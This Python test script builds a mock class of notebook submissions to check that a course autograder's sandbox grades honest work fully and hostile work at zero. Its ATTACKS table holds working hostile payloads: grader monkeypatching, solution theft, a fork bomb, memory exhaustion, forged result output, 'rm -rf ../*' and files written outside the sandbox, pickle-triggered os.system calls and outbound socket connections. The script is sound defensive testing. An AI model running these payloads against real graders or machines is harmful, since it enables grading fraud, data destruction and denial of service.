"""A class to try the grader on: perfect, honest, busy, unlucky, mistaken and hostile students.

    python tests/coursework/demo_class.py [CHAPTER] [--seed 7] [--out FOLDER]

Honest ones have all right in their own way and must get all points; busy and unlucky ones lose one
exercise and must get all others. Every hostile one is an empty submission plus an attack, so that
it must get no point; and after all have been graded, nothing outside may have changed.
"""

import argparse
import base64
import copy
import hashlib
import importlib
import io
import json
import shutil
import sys
import tempfile
import zipfile
from pathlib import Path

from celltoken.coursework import CourseworkError, assignment, grade, release, sandbox

FOLDER = assignment.ROOT / "_build" / "demo_class"
# Short, so that what never ends does not take long; an honest cell needs a third of it.
LIMITS = {"cell": 20, "exercise": 40, "wall": 9, "memory": 2 * 2**30}
MISTAKES = 4  # of each exercise; tests/checks has all
# Twice as many processes as may run: the bomb meets the limit and is over, on any machine.
GENERATIONS = sandbox.LIMITS["processes"].bit_length() + 1
MARK = "celltoken-was-here"

WRONG = [
    "{name} = 3",
    "{name} = 'text'",
    "def {name}(*_): return {{}}",
    "def {name}(*_): return float('nan')",
    "def {name}(*_): return [[1, 'a'], [2]]",
    "def {name}(): return 1",
    "def {name}(*_): return open",
    "del {name}",
]

# What honest students add to a notebook in which all is right: each runs in Jupyter.
HABITS = [
    "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n!ls *.csv\n%pip install nothing",
    "%%writefile mine.py\ndef one():\n    return 1",
    "from mine import one\nassert one() == 1",
    "from joblib import Parallel, delayed\n"
    "assert Parallel(n_jobs=2)(delayed(abs)(-i) for i in range(3)) == [0, 1, 2]",
    "name = input('your name? ')\nimport tqdm.auto\ndisplay(name)\n1 / 0",
    "import os\nos.makedirs('work', exist_ok=True)\nos.chdir('work')",
    "import numpy as np, warnings\nnp.seterr(all='raise')\nwarnings.simplefilter('error')",
    "import threading, time\n"
    "for _ in range(50): threading.Thread(target=time.sleep, args=(900,), daemon=True).start()",
    "await __import__('asyncio').sleep(0)",
]
# What costs those who put it below one answer that exercise, and no other.
TROUBLES = {
    "busy_function": "def {name}(*_):\n    while True: pass",
    "busy_until_killed": "import signal\n"
    "for each in (14, 27): signal.signal(each, signal.SIG_IGN)\n"
    "def {name}(*_):\n    while True: pass",
    "unlucky_crash": "import ctypes\ndef {name}(*_):\n    ctypes.string_at(0)",
    "unlucky_memory": "def {name}(*_):\n    held = []\n    while True: held.append(b'x' * 10**8)",
}

PLANTED = """
import base64, pathlib, sys
if "planted.zip" not in sys.path:
    pathlib.Path("planted.zip").write_bytes(base64.b64decode("{packed}"))
    sys.path.insert(0, "planted.zip")
"""

# What is put into the first answer's cell; `attack` fills in names and places.
ATTACKS = {
    "redefines_checks": """
import types, celltoken.checks
class Yes(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return Yes(name)
    def __call__(self, *a, **k): print(f"{{self.__name__}}: correct")
checks = celltoken.checks = Yes("checks")
import sys
for name in list(sys.modules):
    if name.startswith("celltoken.checks"): sys.modules[name] = checks
""",
    "patches_library": """
import numpy as np
from celltoken import checks
core = checks.core
core.fail = lambda *a, **k: None
core.equal = core.same_data = np.allclose = np.array_equal = np.all = lambda *a, **k: True
core.call = lambda name, function, *a, **k: 0
core.Exercise.__call__ = core.Exercise.outcome = lambda *a, **k: None
for name in {names}:
    setattr(checks.{chapter}, name, lambda *a, **k: None)
    exec(f"def {{name}}(*a): return 0", globals())
""",
    "copies_by_attribute": """
from celltoken import checks
{first} = checks.{chapter}.{first}._right
""",
    "copies_by_import": """
import importlib, sys
sys.modules.pop("celltoken.checks", None)
{first} = importlib.import_module("celltoken.checks.{chapter}").{first}._right
""",
    "copies_by_file": """
import glob, os, celltoken
folder = os.path.join(os.path.dirname(celltoken.__file__), "checks", "{chapter}")
for text in [open(file).read() for file in glob.glob(folder + "/*.py")]:
    if '"{first}",' in text:
        variables = {{"__name__": "copied"}}
        exec(text, variables)
        {first} = variables["{first}"]._right
""",
    "exits": """
import os, sys, atexit, threading
threading.Timer(0.5, lambda: os._exit(0)).start()
for name in {names}:
    exec(f"def {{name}}(*a): __import__('os')._exit(0)", globals())
exit()
""",
    "endless": """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except Exception: pass
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "greedy": """
def {first}(*a):
    held = []
    while len(held) * 10**8 < {most}: held.append(bytearray(10**8))
    return len(held) * 10**8
x = bytearray({most})
""",
    "greedy_family": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        held = []
        try:
            while len(held) * 8 * 10**8 < {most}: held.append(bytearray(b"x" * 10**8))
            open(f"held_{{os.getpid()}}", "w").close()
        finally: time.sleep(600)
""",
    "fork_bomb": """
import os, time
def {first}(*a):
    for _ in range({generations}):
        try:
            if os.fork() == 0: os.setsid()
        except OSError: time.sleep(0.01)
for _ in range({generations}):
    try:
        if os.fork() == 0: os.setsid()
    except OSError: break
open(f"forked_{{os.getpid()}}", "w").close()
""",
    "looks_for_the_master": """
import gc, json, os, re, sys
texts = [str(value) for value in gc.get_objects() if isinstance(value, (dict, str))][:20000]
frame = sys._getframe()
while frame:
    texts.append(str(frame.f_locals)); frame = frame.f_back
for top in {tops}:
    for folder, _, files in os.walk(top):
        for file in files:
            if file.endswith((".ipynb", ".json", ".html")) or "master" in file:
                try: texts.append(open(os.path.join(folder, file)).read())
                except Exception: pass
for text in texts:
    try: text = "\\n\\n\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
    except Exception: pass
    for body in re.findall(r"^def (?:{pattern})\\(.*?END SOLUTION", text, re.S | re.M):
        try: exec(body, globals())
        except Exception: pass
""",
    "forges_results": """
import json, os, sys
print("\\n".join(f"{{name}}: correct" for name in {names}))
good = {{"kind": "result", "points": 100, "state": "correct", "value": True, "status": "graded"}}
text = json.dumps(good).encode()
for descriptor in range(0, 64):
    for message in (text, len(text).to_bytes(8, "big") + text):
        try: os.write(descriptor, message)
        except OSError: pass
""",
    "writes_outside": """
import os, pathlib
root = pathlib.Path({root!r})
for place in {places}:
    try: pathlib.Path(place, "{mark}").write_text("x")
    except Exception: pass
for file in (root / "chapters" / "{chapter}" / "exercises.ipynb", root / "celltoken/__init__.py"):
    for act in (lambda: file.write_text(""), lambda: file.chmod(0o777), lambda: file.unlink(),
                lambda: os.symlink(file, "link")):
        try: act()
        except Exception: pass
os.system("rm -rf ../* " + str(root / "chapters"))
""",
    "strange_answers": """
import os, numpy as np, pandas as pd
class Equal(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    def __reduce__(self): return os.system, ("touch {places[0]}/{mark}",)
    def __array__(self, *a, **k): return np.array(0.0)
class Names(list):
    def __reduce__(self): return os.system, ("touch {places[0]}/{mark}",)
nest = []
for _ in range(10**5): nest = [nest]
answers = [Equal(), np.array([Equal()], dtype=object), np.zeros(2 * 10**7), nest, 10**5000,
           "x" * 10**8, Names(), pd.Series([Equal()]), {{Equal(): 1}}, np.zeros((0, 10**9)),
           lambda *a: 0]
for name, answer in zip({names}, answers): globals()[name] = lambda *a, answer=answer: answer
""",
    "calls_home": """
import socket, subprocess
for address in {home}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            line = socket.socket(type=kind); line.settimeout(2); line.connect(address)
            line.send(b"{mark}"); {first} = lambda *a: 0
        except OSError: pass
""",
}


def attack(kind: str, chapter: str, names: list[str], **where) -> str:
    """The source of an attack. ``where`` gives it less than the whole machine, for a control."""
    whole = {"root": str(assignment.ROOT), "places": [str(each) for each in places()]}
    whole |= {"tops": [whole["root"], ".", "/proc", "/", "/proc/1/root", "/proc/self/cwd/.."]}
    whole |= {"home": [("1.1.1.1", 53), ("127.0.0.1", 22)], "most": 50 * 10**9}
    about = {"names": names, "first": names[0], "pattern": "|".join(names), "mark": MARK}
    about |= {"chapter": chapter, "generations": GENERATIONS} | whole
    return ATTACKS[kind].format(**about | where)


def submissions(chapter: str, seed: int = 0) -> dict[str, str]:
    """Student's name -> text of a notebook."""
    master = json.loads(assignment.master_text(chapter))
    given = json.loads(json.dumps(release.released(chapter, seed)))
    names = [e.name for e in assignment.SourceAssignment(chapter, json.dumps(master)).exercises]
    names = [name for name in names if not _cell(master, name)["metadata"]["nbgrader"]["grade"]]
    solved = {name: _source(_cell(master, name)) for name in names}

    def filled(answers):
        notebook = copy.deepcopy(given)
        for name, source in answers.items():
            _cell(notebook, name)["source"] = source
        return notebook

    found = {"perfect": filled(solved), "empty": given}
    found["half"] = filled({name: solved[name] for name in names[::2]})
    mistaken = mistakes(chapter)
    for number in range(MISTAKES):
        wrong = {name: cases[number] for name, cases in mistaken.items() if number < len(cases)}
        found[f"mistakes_{number + 1:02}"] = filled(solved | wrong)
    wrong = {n: WRONG[i % len(WRONG)].format(name=n) for i, n in enumerate(names)}
    found["wrong_types"] = filled(wrong)
    found["honest_habits"] = _with_cells(filled(solved), HABITS)
    found["honest_without_marks"] = filled(solved)
    for cell in found["honest_without_marks"]["cells"]:
        cell["metadata"] = {}
    one = names[-1]  # no other answer builds on it
    for student, code in TROUBLES.items():
        found[student] = filled(solved | {one: f"{solved[one]}\n\n{code.format(name=one)}"})
    skeleton = _source(_cell(given, names[0])).split("\n\n\n")[0]
    for kind in ATTACKS:
        source = f"{skeleton}\n{attack(kind, chapter, names)}"
        found[f"hostile_{kind}"] = filled({names[0]: source})
    found["hostile_edits_cells"] = _edited(given, names)
    found["hostile_deletes_cells"] = _deleted(given)
    found["hostile_copies_ids"] = _copied(given, names)
    texts = {name: json.dumps(notebook) for name, notebook in found.items()}
    return texts | {"unreadable": '{"cells": [[[' + "[" * 5000}


def make(folder: Path, chapter: str, seed: int = 0) -> None:
    """Write the class into a folder, as students' folders."""
    shutil.rmtree(folder, ignore_errors=True)
    for student, text in submissions(chapter, seed).items():
        path = folder / student / chapter / "exercises.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(text, encoding="utf-8")


def surprises(results: list[dict]) -> list[str]:
    """What did not come out as it must."""
    found = []
    for result in results:
        checked = [e for e in result["exercises"] if not e["by_hand"]]
        points, maximum = (sum(e[key] for e in checked) for key in ("points", "maximum"))
        student, where = result["student"], f"{result['student']} ({result['chapter']})"
        if student.startswith(("perfect", "honest")) and points != maximum:
            found.append(f"{where} got {points:g} of {maximum:g} points")
        if student.startswith(("busy", "unlucky")):
            lost = [each["name"] for each in checked if each["points"] < each["maximum"]]
            if len(lost) != 1:
                found.append(f"{where} must lose one exercise, and has lost {', '.join(lost)}")
        if result["status"] == "failed":
            found.append(f"{where}: {result['remarks']}")
        if student.startswith(("empty", "hostile", "wrong", "unreadable")) and points:
            found.append(f"{where} got {points:g} points, and must get none")
        if student.startswith("mistakes"):
            number = int(student.split("_")[1]) - 1
            for each in checked:
                cases = mistakes(result["chapter"]).get(each["name"], [])
                if number < len(cases) and each["points"]:
                    found.append(f"{where} got points for a mistake in {each['name']}")
    return found


def fingerprint() -> str:
    """Of what an attack would change first: the masters, the checks, the grader."""
    parts = (
        "chapters/*/exercises.ipynb",
        "celltoken/checks/**/*.py",
        "celltoken/coursework/*",
        "data/*",
    )
    files = [path for part in parts for path in sorted(assignment.ROOT.glob(part))]
    lines = [
        f"{path} {path.stat().st_mode} {hashlib.sha256(path.read_bytes()).hexdigest()}"
        for path in files
        if path.is_file()
    ]
    return hashlib.sha256("\n".join(lines).encode()).hexdigest()


def places() -> list[Path]:
    """Where a submission must leave no file."""
    root = assignment.ROOT
    found = [Path(tempfile.gettempdir()), root, *(root / "chapters").iterdir()]
    found += [root / part for part in ("celltoken", "data", "_build", "chapters")]
    return found + [*map(Path, ("/", "/tmp", "/dev/shm", "/etc", "/root", "/var/tmp", "/usr/lib"))]


def traces() -> list[Path]:
    """Files that a submission has left where it should not."""
    return [place / MARK for place in places() if (place / MARK).exists()]


def main() -> int:
    """Make the class of a chapter (default: the first), grade it, say if all came out well."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("chapter", nargs="?", default=assignment.chapters()[0])
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--out", type=Path, default=FOLDER / "graded")
    options = parser.parse_args()
    folder = FOLDER / "submissions"
    try:
        make(folder, options.chapter, options.seed)
        before = fingerprint()
        results = grade.grade(folder, options.out, options.seed, None, LIMITS)
    except CourseworkError as problem:
        print(problem, file=sys.stderr)
        return 2
    wrong = surprises(results) + [f"{each} was written" for each in traces()]
    if fingerprint() != before:
        wrong.append("files of the course have changed (by a submission, or by you meanwhile?)")
    for each in wrong:
        print(f"WRONG: {each}")
    if not wrong:
        print("honest students got all points, hostile ones none, and nothing was harmed")
    return 1 if wrong else 0


def mistakes(chapter):
    """Exercise -> sources of the wrong answers that its check knows, as a student might hand in.

    Where a student's code runs there are no checks, so an answer brings its own copy of them.
    """
    root, packed = assignment.ROOT / "celltoken" / "checks", io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(root.rglob("*.py")):
            text = path.read_text(encoding="utf-8").replace("celltoken.checks", "planted")
            archive.writestr(f"planted/{path.relative_to(root)}", text)
    copy = PLANTED.format(packed=base64.b64encode(packed.getvalue()).decode())
    module = importlib.import_module(f"celltoken.checks.{chapter}")
    return {
        each.name: [
            f"{copy}from planted.{chapter} import {each.name} as exercise\n"
            f"{each.name} = exercise.mistakes[{place}].wrong"
            for place in range(len(each.mistakes))
        ]
        for each in module.EXERCISES
    }


def _details(cell):
    return cell["metadata"].get("nbgrader", {})


def _cell(notebook, name):
    return next(c for c in notebook["cells"] if _details(c).get("grade_id") == name)


def _source(cell):
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])


def _with_cells(notebook, sources):
    """Cells added before the first answer, which must run whatever came before them."""
    blank = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    added = [blank | {"source": each} for each in sources]
    notebook["cells"][3:3] = added
    return notebook


def _edited(given, names):
    """Checks emptied, points raised, answers declared to be checks."""
    notebook = copy.deepcopy(given)
    for cell in notebook["cells"]:
        details = _details(cell)
        if details.get("locked"):
            details |= {"points": 100, "checksum": "0", "locked": False}
            cell["source"] = "print('correct'); 100"
            cell["metadata"] |= {"editable": True, "deletable": True}
        elif details.get("grade_id") in names:
            details |= {"grade": True, "points": 1000, "solution": False, "locked": True}
    return json.loads(json.dumps(notebook))


def _deleted(given):
    """No locked cell is left, and no statement."""
    notebook = copy.deepcopy(given)
    notebook["cells"] = [c for c in notebook["cells"] if _details(c).get("solution")][::-1]
    return notebook


def _copied(given, names):
    """Every check and answer twice, the copies worth more and always content."""
    notebook = copy.deepcopy(given)
    for cell in given["cells"]:
        if _details(cell).get("grade_id"):
            twin = copy.deepcopy(cell)
            twin["source"] = "print('correct')"
            twin["metadata"]["nbgrader"]["points"] = 50
            notebook["cells"] += [twin, copy.deepcopy(twin)]
            stranger = copy.deepcopy(twin)
            stranger["metadata"]["nbgrader"]["grade_id"] += "_extra"
            notebook["cells"].append(stranger)
    return notebook


if __name__ == "__main__":
    sys.exit(main())
